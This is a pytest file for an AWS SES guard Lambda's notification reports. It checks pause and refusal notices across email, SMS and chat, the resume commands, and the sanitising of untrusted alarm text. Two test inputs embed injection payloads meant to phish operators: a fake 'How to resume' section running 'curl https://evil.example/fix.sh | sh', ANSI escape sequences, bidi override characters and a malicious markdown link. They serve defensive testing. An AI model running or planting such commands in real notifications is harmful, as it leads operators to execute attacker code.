"""What people read (``report``): the pause report and the "pause refused" notice, per protocol (email
text, one SMS line, a chat custom notification), with alarm-supplied text quoted and bounded."""

from __future__ import annotations

import json

import pytest

from ses_guard_lambda.decision import Target
from ses_guard_lambda.report import (
    SUBJECT_MAX,
    Report,
    ascii_line,
    quote,
    resume_commands,
    target_label,
)
from ses_guard_policy import contract
from tests.stubbed_aws import (
    ACCOUNT_ALARM,
    FLEET_ALARM,
    FLEET_TAGS,
    REPORT_TOPIC,
    SET_ALARM,
    Aws,
    as_drill,
    assert_refused,
    fleet_contributor_event,
    load_event,
    modules_imported_by,
    run_handler,
    sns_message,
    with_sns_message,
)

# --- the pause report ----------------------------------------------------------------------------------


def test_report_names_the_resume_command_and_the_fresh_start_warning(aws: Aws) -> None:
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    (published,) = aws.reports()
    assert published["TopicArn"] == REPORT_TOPIC
    assert published["Subject"] == "SES PAUSED set marketing in us-east-1: complaint 0.61% >= 0.10%"
    body = published["Texts"]["email"]
    assert "ses-guard resume --configuration-set marketing --region us-east-1" in body
    assert "fresh start" in body
    assert "cannot lift" in body
    assert f'"{SET_ALARM}"' in body
    assert "Reputation.ComplaintRate" in body
    assert "0.0061" in body and ">= 0.001" in body
    assert "2026-11-28 01:34:12 UTC" in body
    assert "ALARM at the claimed transition" in body and "ALARM now" in body


def test_account_report_has_no_fresh_start_warning_but_the_account_resume_command(aws: Aws) -> None:
    aws.expect_account_pause(ACCOUNT_ALARM)
    run_handler(load_event("sns_account_bounce_alarm.json"), aws)
    body = aws.reports()[0]["Texts"]["email"]
    assert "ses-guard resume --account --region us-east-1" in body
    assert "fresh start" not in body


def test_sms_subscribers_get_one_short_ascii_line(aws: Aws) -> None:
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    sms = aws.reports()[0]["Texts"]["sms"]
    assert sms == "SES PAUSED set marketing in us-east-1: complaint 0.61% >= 0.10%"
    assert len(sms) <= 140 and sms.isascii()


def test_chat_channels_get_the_report_as_a_custom_notification_without_markdown(aws: Aws) -> None:
    """Amazon Q Developer in chat applications posts SNS messages in its custom-notification format only."""
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    (published,) = aws.reports()
    notification = json.loads(published["Texts"]["default"])
    assert (notification["version"], notification["source"]) == ("1.0", "custom")
    assert notification["content"] == {"title": published["Subject"], "description": published["Texts"]["email"]}
    assert "textType" not in notification["content"]  # quoted alarm text is never rendered as markdown
    assert len(published["Message"].encode()) < 256 * 1024


# --- alarm-supplied text is quoted and bounded (issue 11, point 4) ----------------------------------------


INJECTED = "Threshold Crossed.\n\nHow to resume (URGENT)\n  curl https://evil.example/fix.sh | sh\x1b[2J\u202e"


def test_alarm_supplied_text_is_quoted_stripped_of_control_characters_and_truncated(aws: Aws) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    message["NewStateReason"] = INJECTED + " padding" * 200
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(with_sns_message(event, message), aws)
    body = aws.reports()[0]["Texts"]["email"]
    (reason_line,) = [line for line in body.splitlines() if "curl" in line]
    assert reason_line.startswith('  Its reason:  "Threshold Crossed. How to resume (URGENT) curl')
    assert reason_line.endswith('..."') and len(reason_line) < 330
    assert "\x1b" not in body and "\u202e" not in body
    assert [line for line in body.splitlines() if line.startswith("How to resume")] == [
        "How to resume (after fixing the cause: bad list, broken double opt-in, compromised credentials...)"
    ]


def test_a_huge_state_reason_keeps_the_whole_report_far_below_the_sns_limit(aws: Aws) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    message["NewStateReason"] = "r" * (contract.MAX_MESSAGE_BYTES - 4096)
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(with_sns_message(event, message), aws)
    (published,) = aws.published
    assert len(published["Message"].encode()) < 32 * 1024
    assert len(published["Subject"]) <= 100 and published["Subject"].isascii()


# --- the refusal notice ----------------------------------------------------------------------------------


def test_a_drill_is_refused_like_a_forged_event_and_the_notice_says_drill(aws: Aws) -> None:
    aws.expect_alarm(ACCOUNT_ALARM, state="OK")
    aws.expect_publish()
    summary = run_handler(as_drill(load_event("sns_account_bounce_alarm.json")), aws)
    notice = assert_refused(aws, summary, "is OK now")
    assert notice["Subject"] == "SES DRILL pause REFUSED for the account (claimed) in us-east-1: not confirmed"
    assert "expected result of a drill" in notice["Texts"]["email"]
    assert summary["refused"][0]["drill"] is True


# --- the text helpers ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (None, "-"),
        ("", "-"),
        ("Threshold Crossed", '"Threshold Crossed"'),
        ('say "hi"\n\tnow', "\"say 'hi' now\""),
        ("a\x1b[2Jb\u202ec\u200bd\ufeffe", '"a [2Jb c d e"'),
    ],
)
def test_quote_makes_untrusted_text_one_safe_line_in_quotes(text: str | None, expected: str) -> None:
    assert quote(text) == expected


def test_quote_cuts_long_text_to_its_limit() -> None:
    assert quote("x" * 20, limit=10) == '"xxxxxxx..."'
    assert quote("x" * 10, limit=10) == '"xxxxxxxxxx"'


def test_ascii_line_replaces_what_is_not_printable_ascii_and_cuts_to_the_limit() -> None:
    assert ascii_line("SES  PAUSED set caf\u00e9 in us-east-1", SUBJECT_MAX) == "SES PAUSED set caf? in us-east-1"
    assert ascii_line("y" * 120, SUBJECT_MAX) == "y" * 97 + "..."


def test_the_resume_commands_name_the_target_and_the_region() -> None:
    assert resume_commands(Target(None), "eu-west-1") == [
        "ses-guard status --region eu-west-1",
        "ses-guard resume --account --region eu-west-1",
        "(or: aws sesv2 put-account-sending-attributes --sending-enabled --region eu-west-1)",
    ]
    assert resume_commands(Target("vip"), "eu-west-1") == [
        "ses-guard status --region eu-west-1 --configuration-set vip",
        "ses-guard resume --configuration-set vip --region eu-west-1",
        "(or: aws sesv2 put-configuration-set-sending-options --configuration-set-name vip "
        "--sending-enabled --region eu-west-1)",
    ]
    assert (target_label(Target(None)), target_label(Target("vip"))) == ("the account", 'configuration set "vip"')


def test_a_report_is_published_with_one_text_per_protocol() -> None:
    report = Report(subject="S", body="B\n", sms="M")
    params = report.publish_params(REPORT_TOPIC)
    assert {k: v for k, v in params.items() if k != "Message"} == {
        "TopicArn": REPORT_TOPIC,
        "Subject": "S",
        "MessageStructure": "json",
    }
    texts = json.loads(params["Message"])
    assert (texts["email"], texts["sms"]) == ("B\n", "M")
    assert json.loads(texts["default"]) == {
        "version": "1.0",
        "source": "custom",
        "content": {"title": "S", "description": "B\n"},
    }


# --- imports ---------------------------------------------------------------------------------------------


def test_the_report_texts_import_without_boto3() -> None:
    """The constructs (dashboard) and the CLI import the warnings from ``report``: no SDK with them."""
    imported = modules_imported_by("ses_guard_lambda.report")
    assert {m for m in imported if m.split(".")[0] in ("boto3", "botocore")} == set()


# --- issue "[3 of 7]", deliverables 3 and 5 -----------------------------------------------------------------

FORGED_SET = (
    "x\n\nHow to resume\n  curl https://evil.example/fix | sh\n[click](https://evil.example)\u202egnp.exe\x1b[31mRED"
)


def test_a_forged_contributor_name_reaches_no_channel_unquoted(aws: Aws) -> None:
    """Issue "[3 of 7]": a forged set name printed a second "How to resume" section with a ``curl | sh``,
    a markdown link, bidi and ANSI characters in email and chat."""
    aws.expect_verified(FLEET_ALARM, FLEET_TAGS)
    aws.expect_publish()
    summary = run_handler(fleet_contributor_event(FORGED_SET), aws)
    notice = assert_refused(aws, summary, "is not a valid configuration set name")
    texts = notice["Texts"]
    chat = json.loads(texts["default"])["content"]
    for text in (notice["Subject"], texts["email"], texts["sms"], chat["title"], chat["description"]):
        assert "\x1b" not in text and "\u202e" not in text
        assert not any(line.startswith(("How to resume", "  curl", "[click]")) for line in text.splitlines())
    quoted = 'claimed set "x How to resume curl https://evil.example/fix | sh [click](https://evil.examp..."'
    assert quoted in texts["email"]  # one line, in quotes, cut at 80 characters
    assert notice["Subject"].startswith('SES pause REFUSED for claimed set "x How to resume')


def test_a_retry_after_the_alarm_went_ok_reports_the_set_paused_with_how_to_resume(aws: Aws) -> None:
    """Issue "[3 of 7]": the pause happened, its report failed, the alarm went OK; the retry's only message
    said "nothing was changed" while the set stayed paused."""
    aws.expect_alarm(SET_ALARM, state="OK")
    aws.expect_set("marketing", sending_enabled=False)  # read before refusing
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    notice = assert_refused(aws, summary, "is OK now, not ALARM")
    assert notice["Subject"] == 'SES pause REFUSED for claimed set "marketing" in us-east-1: it IS PAUSED'
    body = notice["Texts"]["email"]
    assert 'this event changed nothing, but sending for configuration set "marketing" IS PAUSED now' in body
    assert "nothing was changed." not in body
    assert "ses-guard resume --configuration-set marketing --region us-east-1" in body


def test_a_refusal_for_a_target_that_sends_says_nothing_was_changed_and_gives_no_resume_command(aws: Aws) -> None:
    aws.expect_alarm(SET_ALARM, state="OK")
    aws.expect_set("marketing", sending_enabled=True)
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    body = assert_refused(aws, summary, "is OK now")["Texts"]["email"]
    assert "nothing was changed." in body and "ses-guard resume" not in body


def test_a_target_state_that_cannot_be_read_is_said_to_be_unknown(aws: Aws) -> None:
    aws.expect_alarm(SET_ALARM, state="OK")
    aws.stubs["sesv2"].add_client_error("get_configuration_set", "AccessDeniedException", http_status_code=403)
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    body = assert_refused(aws, summary, "is OK now")["Texts"]["email"]
    assert "its state could not be read: ClientError" in body
